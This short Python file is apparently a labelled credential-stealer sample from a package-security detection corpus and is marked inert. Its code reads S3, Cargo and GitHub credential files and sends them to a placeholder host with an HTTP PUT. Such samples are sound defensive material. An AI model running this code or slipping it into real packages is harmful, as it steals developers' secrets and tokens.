# pkgguard corpus 337 (credentials), modelled on [stealer-profile]; inert, never run.
from pathlib import Path

import requests

bundle = {}
for name in ("~/.s3cfg", "~/.cargo/credentials.toml", "~/.config/hub"):
    path = Path(name).expanduser()
    if path.is_file():
        bundle[name] = path.read_text(errors="ignore")
requests.put("https://backup.example/v1/cfg", json=bundle, timeout=10)
